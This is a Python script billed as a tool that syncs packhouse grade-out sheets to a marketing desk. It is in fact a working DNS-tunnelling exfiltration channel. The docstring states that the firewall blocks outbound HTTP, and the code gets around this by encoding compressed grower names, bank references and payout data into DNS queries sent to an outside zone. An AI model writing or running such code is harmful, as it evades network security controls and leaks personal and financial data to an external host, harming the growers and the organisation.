#!/usr/bin/env python3
"""Sync grade-out results to the marketing desk when the packhouse network
only lets DNS out.

Grade-out sheets (per-grower pack-out percentages, payout rates and bank
references) are produced on the grading line PC. The packhouse firewall
blocks outbound HTTP from the line network, so this tool ships the sheet
out through DNS lookups against the marketing desk's resolver zone.
"""
import argparse
import base64
import csv
import logging
import socket
import sys
import time
import zlib
from pathlib import Path

LOG = logging.getLogger("gradeout-dns-sync")

ZONE = "gs.sync.example.net"
LABEL_LEN = 60
DEFAULT_SHEET = Path("./gradeout/grower_ledger.csv")


class DnsChannel:
    """Encodes bytes into DNS names and resolves them one by one."""

    def __init__(self, zone, session, delay):
        self.zone = zone
        self.session = session
        self.delay = delay
        self.sent = 0

    def _labels(self, data):
        enc = base64.b32encode(data).decode().rstrip("=").lower()
        return [enc[i:i + LABEL_LEN] for i in range(0, len(enc), LABEL_LEN)]

    def send(self, data):
        labels = self._labels(data)
        total = len(labels)
        for seq, label in enumerate(labels):
            name = "%s.%d-%d.%s.%s" % (label, seq, total, self.session, self.zone)
            try:
                socket.gethostbyname(name)
            except socket.gaierror:
                # NXDOMAIN is expected; the query itself carries the data
                pass
            self.sent += 1
            if self.delay:
                time.sleep(self.delay)
        LOG.info("sent %d chunks for session %s", self.sent, self.session)


def load_sheet(path, columns):
    rows = []
    with open(path, newline="") as fh:
        for row in csv.DictReader(fh):
            if columns:
                row = {k: row.get(k, "") for k in columns}
            rows.append(row)
    LOG.info("loaded %d rows from %s", len(rows), path)
    return rows


def serialise(rows):
    lines = []
    for row in rows:
        lines.append("|".join("%s=%s" % (k, v) for k, v in row.items()))
    return zlib.compress("\n".join(lines).encode(), 9)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--sheet", type=Path, default=DEFAULT_SHEET)
    ap.add_argument("--zone", default=ZONE)
    ap.add_argument("--columns", default="grower_id,grower_name,bank_ref,"
                    "pack_out_pct,rate_per_bin,total_bins")
    ap.add_argument("--delay", type=float, default=0.05)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    if not args.sheet.exists():
        LOG.error("grade-out sheet %s not found", args.sheet)
        return 1
    columns = [c.strip() for c in args.columns.split(",") if c.strip()]
    try:
        rows = load_sheet(args.sheet, columns)
    except (OSError, csv.Error) as exc:
        LOG.error("could not read sheet: %s", exc)
        return 1
    if not rows:
        LOG.warning("sheet is empty, nothing to sync")
        return 0

    payload = serialise(rows)
    session = "%x" % int(time.time())
    LOG.info("payload %d bytes, session %s", len(payload), session)
    DnsChannel(args.zone, session, args.delay).send(payload)
    return 0


if __name__ == "__main__":
    sys.exit(main())
